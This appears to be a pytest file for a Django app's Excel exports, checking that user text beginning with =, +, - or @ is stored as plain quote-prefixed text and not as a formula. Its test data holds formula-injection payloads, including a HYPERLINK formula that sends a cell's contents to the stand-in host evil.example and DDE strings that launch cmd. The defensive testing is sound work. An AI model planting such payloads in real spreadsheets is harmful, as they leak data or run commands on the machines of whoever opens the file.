"""Spreadsheet formula injection: every Excel export writes user text as text (OWASP "CSV injection").

A value typed by a user that starts with = + - @ TAB or CR must reach the .xlsx as a plain string cell with
Excel's quote-prefix flag, never as a formula; numbers, money and dates stay real cells.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from coso.core.excel import workbook_bytes

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TRIGGERS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _no_formulas(data: bytes) -> None:
    """No worksheet of the file holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >]", z.read(name)), f"formula in {name}"


def _cells(data: bytes) -> list:  # type: ignore[type-arg]
    wb = load_workbook(io.BytesIO(data))  # formulas are kept as formulas (not data_only)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text(data: bytes, values: list[str]) -> None:
    _no_formulas(data)
    cells = _cells(data)
    for value in values:
        found = [c for c in cells if isinstance(c.value, str) and c.value.strip() == value.strip()]
        assert found, f"{value!r} not exported"
        for c in found:
            assert c.data_type == "s" and c.quotePrefix, (value, c.data_type, c.quotePrefix)


def test_workbook_bytes_every_trigger_is_text_numbers_and_dates_stay_real():
    data = workbook_bytes([{
        "title": "T", "heading": [HYPERLINK], "headers": ["Tên", "Số", "Tiền", "Ngày"],
        "rows": [[v, 7, Decimal("1500000"), dt.date(2026, 3, 2)] for v in TRIGGERS] + [["Bình thường\x01", 1, 0, None]],
        "money_cols": [2],
    }])
    assert_text(data, TRIGGERS)
    cells = _cells(data)
    assert any(c.value == 7 and c.data_type == "n" for c in cells)
    assert any(c.value == 1500000 and c.data_type == "n" for c in cells)
    assert any(isinstance(c.value, dt.datetime) and c.value.date() == dt.date(2026, 3, 2) and c.is_date for c in cells)
    plain = next(c for c in cells if c.value == "Bình thường")  # a control character .xlsx cannot hold is dropped, not a 500
    assert plain.data_type == "s" and not plain.quotePrefix


def test_workforce_export(login, users, commune):
    from coso.workforce.tests.helpers import person

    person(commune, full_name=HYPERLINK, ethnicity="-1+1")
    r = login(users["home_affairs"]).get(reverse("workforce:people"), {"format": "xlsx"})
    assert r.status_code == 200
    assert_text(r.content, [HYPERLINK, "-1+1"])
    # The export is re-importable: the cell value is the name itself, not "'=HYPERLINK…".
    assert any(c.value == HYPERLINK for c in _cells(r.content))


def test_villages_export_keeps_numbers(login, users, commune):
    from coso.units import services

    services.village_create(actor=users["sysadmin"], commune=commune, name="+Khu phố 1", kind="khu_pho", households=420)
    r = login(users["leader"]).get(reverse("units:village_export"))
    assert r.status_code == 200
    assert_text(r.content, ["+Khu phố 1"])
    assert any(c.value == 420 and c.data_type == "n" for c in _cells(r.content))


def test_procedure_catalogue_export(login, users, province):
    from coso.dossiers.tests.conftest import make_procedure

    make_procedure(code="1.000001", name="=1+2 Đăng ký khai sinh")
    r = login(users["sysadmin"]).get("/procedures/manage/export.xlsx")
    assert r.status_code == 200
    assert_text(r.content, ["=1+2 Đăng ký khai sinh"])
